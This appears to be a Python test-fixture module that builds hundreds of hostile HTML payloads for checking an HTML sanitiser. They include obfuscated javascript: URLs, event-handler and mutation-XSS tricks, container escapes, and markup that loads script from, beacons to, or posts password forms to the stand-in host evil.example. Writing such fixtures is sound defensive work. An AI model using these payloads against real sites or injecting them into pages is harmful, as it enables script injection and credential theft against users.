"""Shapes of hostile markup, put together from parts.

``PAYLOADS`` maps a name to markup that would run ``CODE``, leave the page, dress up as
our own page, or reach into our scripts, if it came through. Unit tests look at what the
sanitiser leaves of each; tests in a browser can show each and watch.
"""

from collections.abc import Iterator
from itertools import product

MARK = "pwned"
CODE = f"self.{MARK}=1"
FOREIGN = "https://evil.example/beacon"

_SPELLINGS = {
    "plain": "javascript:{}",
    "upper": "JAVASCRIPT:{}",
    "mixed": "jAvAsCrIpT:{}",
    "tab": "java\tscript:{}",
    "newline": "java\nscript:{}",
    "return": "java\rscript:{}",
    "tab-reference": "java&#x09;script:{}",
    "tab-name": "java&Tab;script:{}",
    "newline-name": "java&NewLine;script:{}",
    "colon-name": "javascript&colon;{}",
    "decimal": "&#106;avascript:{}",
    "padded-reference": "&#0000106avascript:{}",
    "hexadecimal": "&#x6A;&#x61;vascript:{}",
    "nul": "java\x00script:{}",
    "control": "\x01javascript:{}",
    "control-reference": "&#1;javascript:{}",
    "space": "  javascript:{}",
    "no-break-space": "\xa0javascript:{}",
    "ideographic-space": "\u3000javascript:{}",
    "host": "javascript://example.org/%0A{}",
    "comment": "javascript:/*x*/{}",
    "view-source": "view-source:javascript:{}",
    "feed": "feed:javascript:{}",
    "vbscript": "vbscript:{}",
    "livescript": "livescript:{}",
    "data-html": "data:text/html,<script>{}</script>",
    "data-base64": "data:text/html;base64,PHNjcmlwdD5zZWxmLnB3bmVkPTE8L3NjcmlwdD4=",
    "data-svg": "data:image/svg+xml,<svg onload='{}'/>",
    "data-bare": "data:,{}",
    "data-tab": "da\tta:text/html,<script>{}</script>",
    "blob": "blob:https://example.org/{}",
    "filesystem": "filesystem:https://example.org/{}",
    "file": "file:///etc/passwd#{}",
    "backslashes": "\\\\evil.example\\{}",
}
_PLACES = {
    "a-href": '<a href="{}">x</a>',
    "a-href-single": "<a href='{}'>x</a>",
    "area-href": '<map name=m><area shape=default href="{}"></map><img usemap=#m src=x>',
    "img-src": '<img src="{}">',
    "img-srcset": '<img srcset="{} 1x, {} 2x">',
    "img-lazy": '<img data-src="{}" src="x">',
    "img-longdesc": '<img src=x longdesc="{}">',
    "source-srcset": '<picture><source srcset="{}"><img src=x></picture>',
    "link-imagesrcset": '<link rel=preload as=image imagesrcset="{}">',
    "video-poster": '<video poster="{}"></video>',
    "video-src": '<video src="{}"></video>',
    "audio-source": '<audio><source src="{}"></audio>',
    "track": '<video><track default src="{}"></video>',
    "iframe-src": '<iframe src="{}"></iframe>',
    "frame-src": '<frameset><frame src="{}"></frameset>',
    "embed-src": '<embed src="{}">',
    "object-data": '<object data="{}"></object>',
    "form-action": '<form action="{}"><input type=submit></form>',
    "button-formaction": '<form><button formaction="{}">x</button></form>',
    "input-image": '<form><input type=image src="{}"></form>',
    "isindex": '<isindex action="{}" type=image>',
    "body-background": '<body background="{}">',
    "table-background": '<table background="{}"><tr><td background="{}">x</table>',
    "blockquote-cite": '<blockquote cite="{}">x</blockquote>',
    "q-cite": '<q cite="{}">x</q>',
    "del-cite": '<del cite="{}">x</del>',
    "a-ping": '<a href="https://example.org/" ping="{}">x</a>',
    "base-href": '<base href="{}"><a href="x">x</a>',
    "meta-refresh": '<meta http-equiv=refresh content="0;url={}">',
    "svg-link": '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    "svg-use": '<svg><use href="{}"/></svg>',
    "svg-image": '<svg><image href="{}"/></svg>',
    "svg-animate": '<svg><a><animate attributeName=href values="{}"/>x</a></svg>',
    "svg-set": '<svg><a><set attributeName=href to="{}"/><text>x</text></a></svg>',
    "math-href": '<math href="{}"><mi>x</mi></math>',
    "math-link": '<math><mi xlink:href="{}">x</mi></math>',
    "html-manifest": '<html manifest="{}">',
    "applet-code": '<applet code="{}"></applet>',
    "bgsound": '<bgsound src="{}">',
}
_HANDLERS = (
    "onload onerror onclick onmouseover onfocus onfocusin onblur onbegin onend ontoggle"
    " onanimationstart ontransitionend onpointerenter onwheel onscroll oncopy onpaste"
    " ondrag oncontextmenu onsubmit oninput onbeforetoggle onscrollend onformdata"
    " onslotchange onsecuritypolicyviolation onunhandledrejection ONERROR oNlOaD"
)
_HANDLED = {
    "img": "<img src=x {}>",
    "body": "<body {}>x",
    "svg": "<svg {}></svg>",
    "a": "<a href='https://example.org/' {}>x</a>",
    "p": "<p {}>x</p>",
    "details": "<details open {}><summary>x</summary></details>",
    "video": "<video {}><source {}></video>",
    "input": "<input autofocus {}>",
    "math": "<math {}><mi {}>x</mi></math>",
    "marquee": "<marquee {}>x</marquee>",
    "custom": "<x-y tabindex=1 {}>x</x-y>",
}
_WRITTEN = {
    "quoted": '{}="{}"',
    "single": "{}='{}'",
    "bare": "{}={}",
    "spaced": '{} = "{}"',
    "newline": '{}\n=\n"{}"',
    "slash": '/{}="{}"',
    "backtick": "{}=`{}`",
    "form-feed": '\x0c{}="{}"',
}
_SCRIPTS = (
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT>",
    "<scr\x00ipt>{}</script>",
    "<script\n>{}</script\n>",
    "<script/x>{}</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js>",
    "<script type=module>{}</script>",
    "<script type='text/vbscript'>{}</script>",
    "<script>{}",
    "<<script>{}//<</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script <b>{}</script>",
    "<script>//<!--\n{}//--></script>",
    "<!--<script>{}</script>-->",
    "<!--><script>{}</script>-->",
    "<!---><script>{}</script>-->",
    "<!--x--!><script>{}</script>-->",
    "<!-- --!><img src=x onerror={}>",
    "<![CDATA[<script>{}</script>]]>",
    "<?xml version='1.0'?><script>{}</script>",
    "<!DOCTYPE x><script>{}</script>",
    "<% <script>{}</script> %>",
    "</ <script>{}</script>",
    "</><script>{}</script>",
    "<svg><script>{}</script></svg>",
    "<svg><script href='data:,{}'/></svg>",
    "<svg><script xlink:href='data:,{}'></script></svg>",
    "<math><script>{}</script></math>",
    "<xhtml:script xmlns:xhtml='http://www.w3.org/1999/xhtml'>{}</xhtml:script>",
    "<a href='x'><script>{}</script></a>",
    "&lt;script&gt;{}&lt;/script&gt;<script>{}</script>",
    "<template><script>{}</script></template>",
    "<noscript><script>{}</script></noscript>",
    "<table><script>{}</script></table>",
    "<select><script>{}</script></select>",
)
_CONTAINERS = (
    "title xmp noembed noframes noscript plaintext textarea style iframe listing"
    " template select option svg math desc foreignObject mtext mglyph malignmark"
    " annotation-xml table caption colgroup frameset object button marquee form"
    " details dialog picture video ruby"
)
_ESCAPES = {
    "image": "<img src=x onerror={}>",
    "closed": "</{tag}><img src=x onerror={}>",
    "attribute": '<p title="</{tag}><img src=x onerror={}>">',
    "comment": "<!--</{tag}><img src=x onerror={}>-->",
    "cdata": "<![CDATA[</{tag}><img src=x onerror={}>]]>",
    "style": "<style><!--</style><img src=x onerror={}>--></style>",
    "nested": "<{tag}><a title='</{tag}><img src=x onerror={}>'>",
    "entity": "&lt;/{tag}&gt;&lt;img src=x onerror={}&gt;",
}
_MUTATIONS = (
    "<svg><style><img src=x onerror={}></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror={}>'>",
    "<svg><p><style><a title='</style><img src=x onerror={}>'>",
    "<svg><desc><table><a title='</desc><img src=x onerror={}>'>",
    "<svg><foreignObject><math><mi><a title='</math><img src=x onerror={}>'>",
    (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x"
        " onerror={}&gt;'>"
    ),
    "<math><mtext><mglyph><style><img src=x onerror={}></style></mglyph></mtext></math>",
    (
        "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style>"
        "<img src=x onerror={}>'></style></h1>"
    ),
    (
        "<math><annotation-xml encoding='text/html'><style><img src=x onerror={}></style>"
        "</annotation-xml></math>"
    ),
    "<math><annotation-xml encoding='application/xhtml+xml'><script>{}</script>",
    "<math><mi><p><style><a title='</style><img src=x onerror={}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    (
        "<math><mtext><table><mtr><mglyph><svg><mtext><textarea><a title='</textarea>"
        "<img src=x onerror={}>'>"
    ),
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<noscript><style></noscript><img src=x onerror={}></style>",
    "<title><a title='</title><img src=x onerror={}>'>",
    "<textarea><p title='</textarea><img src=x onerror={}>'>",
    "<table><td><svg><td><style><a title='</style><img src=x onerror={}>'>",
    "<svg><g/onload={}></g></svg>",
    "<svg><animatetransform onbegin={}></svg>",
    "<svg><discard onbegin={}></svg>",
    "<svg><set attributeName=onmouseover to={}>",
    "<svg><animate attributeName=href dur=1s values='javascript:{}'/></svg>",
    "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>{}",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={}/>#x'/></svg>",
    "<svg><image href=x onerror={}></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{}</script>'></foreignObject></svg>",
    "<image src=x onerror={}>",
    "<p><svg><foreignobject><p><style><p title='</style><img src=x onerror={}>'>",
    "<b><u><p><a><table><tr><td><style>x</style></a><img src=x onerror={}>",
    "<a><table><a onclick={}>x</a></table></a>",
    "<frameset onload={}>",
    "<isindex onfocus={} autofocus>",
    "<keygen autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<object data=x onerror={}>",
    "<bgsound onload={}>",
    "<style onload={}></style>",
    "<link rel=stylesheet href=x onerror={}>",
)
_NAVIGATION = (
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<meta http-equiv='Set-Cookie' content='a=b'>",
    "<base href='{url}/'><a href='x'>x</a>",
    "<base target=_top>",
    "<link rel=stylesheet href='{url}.css'>",
    "<link rel=import href='{url}'>",
    "<link rel=prefetch href='{url}'>",
    "<form action='{url}' method=post><input name=password type=password></form>",
    "<form id=x></form><button form=x formaction='{url}'>Sign in</button>",
    "<input type=submit formaction='{url}'>",
    "<iframe srcdoc='&lt;script&gt;{code}&lt;/script&gt;'></iframe>",
    "<iframe src='https://www.youtube.com.evil.example/embed/abcdefghijk'></iframe>",
    "<iframe src='https://evil.example/www.youtube.com/embed/abcdefghijk'></iframe>",
    "<iframe src='https://www.youtube.com@evil.example/embed/abcdefghijk'></iframe>",
    "<iframe src='javascript://www.youtube.com/embed/abcdefghijk%0A{code}'></iframe>",
    "<iframe sandbox='allow-scripts allow-top-navigation' src='{url}'></iframe>",
    "<iframe allow='camera; microphone' src='{url}'></iframe>",
    "<object type='text/html' data='{url}'></object>",
    "<embed type='text/html' src='{url}'>",
    "<portal src='{url}'></portal>",
    "<a href='{url}' target=_top ping='{url}' download>x</a>",
    "<a href='//evil.example/x' rel=opener>x</a>",
    "<a href='HTTPS://EVIL.EXAMPLE/X' target=x>x</a>",
    "<dialog open><h1>Sign in</h1></dialog>",
    "<img src='{url}' width=1 height=1>",
    "<img src='{url}' style='display:none'>",
)
_STYLES = (
    "<p style='position:fixed;inset:0;background:#fff'>Sign in again</p>",
    "<a style='position:absolute;top:0;width:9999px' href='{url}'>x</a>",
    "<div style=\"background:url('{url}')\">x</div>",
    '<div style="background-image:url(javascript:{code})">x</div>',
    "<div style='width:expression({code})'>x</div>",
    "<div style='-moz-binding:url({url}#x)'>x</div>",
    "<div style='behavior:url({url}.htc)'>x</div>",
    "<style>@import '{url}.css';</style>",
    "<style>body{{background:url({url})}}</style>",
    "<style>*{{display:none}}</style>",
    "<svg><style>*{{background:url({url})}}</style></svg>",
    "<font color='red' face='x' size='9999'>x</font>",
    "<table width=99999 height=99999 bgcolor=red><tr><td>x</table>",
    "<td colspan=99999999>x</td>",
    "<img src=x width=99999999999 height=99999999999 hspace=9999>",
    "<p class='modal-backdrop show'>x</p>",
)
_HOOKS = (
    'data-hx-get="/delete"', 'hx-get="/delete"', 'hx-post="/delete"', 'hx-on:click="{}"',
    'hx-trigger="load"', 'hx-swap-oob="true"', 'x-on:click="{}"', 'x-data="{{}}"',
    'x-init="{}"', '@click="{}"', ':href="{}"', 'v-on:click="{}"', 'v-html="{}"',
    'ng-click="{}"', "ng-app", 'data-action="click->x#y"', 'data-controller="x"',
    'id="app"', 'id="csrf"', 'name="body"', 'name="attributes"', 'class="btn danger"',
    'slot="x"', 'is="x-y"', 'part="x"', "contenteditable", "autofocus", 'tabindex="1"',
    'accesskey="x"', 'draggable="true"', "popover", 'popovertarget="x"', "inert",
    'itemprop="x"', 'role="alert"', 'aria-live="assertive"', 'nonce="x"', 'exportparts="x"',
    'formaction="javascript:{}"', 'onclick="{}"', 'style="{}"', 'srcdoc="<script>{}"',
    'xmlns="http://www.w3.org/1999/xhtml"', 'xml:base="javascript:{}"', 'data-src="{}"',
)  # fmt: skip
_HOOKED = ("p", "a", "img", "div", "math", "table")


def _schemes() -> Iterator[tuple[str, str]]:
    for (how, scheme), (where, place) in product(_SPELLINGS.items(), _PLACES.items()):
        address = scheme.format(CODE)
        yield f"scheme-{how}-{where}", place.replace("{}", address)


def _handlers() -> Iterator[tuple[str, str]]:
    for handler, (where, element) in product(_HANDLERS.split(), _HANDLED.items()):
        written = f'{handler}="{CODE}"'
        yield f"handler-{handler}-{where}", element.replace("{}", written)
    for (how, form), (where, element) in product(_WRITTEN.items(), _HANDLED.items()):
        written = form.format("onerror", CODE)
        yield f"handler-{how}-{where}", element.replace("{}", written)


def _escapes() -> Iterator[tuple[str, str]]:
    for tag, (how, escape) in product(_CONTAINERS.split(), _ESCAPES.items()):
        inner = escape.replace("{tag}", tag).replace("{}", CODE)
        yield f"container-{tag}-{how}", f"<{tag}>{inner}</{tag}>after"


def _lists() -> Iterator[tuple[str, str]]:
    for number, shape in enumerate(_SCRIPTS):
        yield f"script-{number}", shape.replace("{}", CODE)
    for number, shape in enumerate(_MUTATIONS):
        yield f"mutation-{number}", shape.replace("{}", CODE)
    for number, shape in enumerate(_NAVIGATION):
        yield f"leaving-{number}", shape.format(url=FOREIGN, code=CODE)
    for number, shape in enumerate(_STYLES):
        yield f"style-{number}", shape.format(url=FOREIGN, code=CODE)


def _hooks() -> Iterator[tuple[str, str]]:
    for number, (hook, tag) in enumerate(product(_HOOKS, _HOOKED)):
        yield f"hook-{number}-{tag}", f"<{tag} {hook.format(CODE)}>x</{tag}>"


PAYLOADS: dict[str, str] = {
    name: markup
    for source in (_schemes, _handlers, _escapes, _lists, _hooks)
    for name, markup in source()
}
